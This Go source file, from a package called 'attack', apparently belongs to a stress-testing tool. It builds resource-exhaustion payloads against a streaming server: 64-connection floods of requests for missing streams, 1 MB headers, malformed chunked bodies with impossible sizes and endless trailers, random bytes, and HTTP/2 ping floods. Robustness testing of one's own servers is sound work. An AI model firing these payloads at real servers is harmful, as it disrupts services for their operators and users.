package attack

import (
	"bytes"
	cryptorand "crypto/rand"
	"fmt"
	"math/rand/v2"
	"strings"
)

// What is no request, or none that anybody needs. All of it is sent as fast as it is answered.
var (
	absent = Kind{
		Name:  "absent",
		About: "64 connections that ask for streams that are not there, each time for another one",
		Run: ask(64, func(v Victim) []byte {
			v.Path += fmt.Sprintf("-absent%d", rand.Int64())
			return v.playRequest()
		}),
	}
	heads = Kind{
		Name:  "heads",
		About: "64 connections with heads of 1 MB: one line, one field, or fields of a few bytes",
		Run: ask(64, func(v Victim) []byte {
			field := [...]string{"a", "X-A: b\r\n"}[rand.IntN(2)]
			start := [...][]byte{[]byte("GET /"), append(v.describeHead(), "X-Long: "...), v.describeHead()}[rand.IntN(3)]
			return append(start, strings.Repeat(field, bomb/len(field))...)
		}),
	}
	chunks = Kind{
		Name: "chunks",
		About: "64 connections with chunked bodies: chunks without end, of a byte each, of impossible sizes, and with " +
			"endless extensions or trailers",
		Run: ask(64, func(v Victim) []byte {
			content := [...]string{"x-wms-pushsetup", "x-wms-LogStats"}[rand.IntN(2)]
			return fmt.Appendf(nil, "POST %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: application/%s\r\n"+
				"Transfer-Encoding: chunked\r\n\r\n%s", v.Path, v.Plain, playerAgent, content, chunkBomb())
		}),
	}
	garbage = Kind{
		Name:  "garbage",
		About: "64 connections that send 4 KB of random bytes",
		Run:   ask(64, func(Victim) []byte { return noise(4 << 10) }),
	}
	http2 = Kind{
		Name:  "http2",
		About: "64 connections that speak HTTP/2 from the first byte, with 1,000 frames",
		Run: ask(64, func(Victim) []byte {
			const preface, settings, ping = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "\x00\x00\x00\x04\x00\x00\x00\x00\x00",
				"\x00\x00\x08\x06\x00\x00\x00\x00\x00pingpong"
			return append([]byte(preface+settings), bytes.Repeat([]byte(ping), 1000)...)
		}),
	}
)

// chunkBomb is a chunked body that is too much, or none.
func chunkBomb() string {
	return [...]string{
		"7fffffff\r\n" + strings.Repeat("a", bomb),
		"ffffffffffffffffffffffff\r\na",
		"-1\r\na\r\n",
		strings.Repeat("0", bomb) + "1\r\na\r\n0\r\n\r\n",
		strings.Repeat("1\r\na\r\n", bomb/6),
		"1;" + strings.Repeat("a=b;", bomb/4),
		"0\r\n" + strings.Repeat("X-A: b\r\n", bomb/8),
	}[rand.IntN(7)]
}

// bomb is about how many bytes are sent where a few are expected.
const bomb = 1 << 20

// noise is random bytes.
func noise(n int) []byte {
	b := make([]byte, n)
	cryptorand.Read(b)
	return b
}
